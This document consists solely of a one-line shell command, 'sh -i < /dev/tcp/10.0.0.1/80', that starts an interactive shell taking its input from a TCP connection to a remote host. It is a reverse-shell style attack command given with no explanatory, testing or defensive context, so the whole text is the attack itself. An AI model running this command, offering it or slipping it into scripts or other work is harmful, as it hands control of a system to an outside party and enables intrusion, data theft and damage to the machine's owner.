sh -i < /dev/tcp/10.0.0.1/80
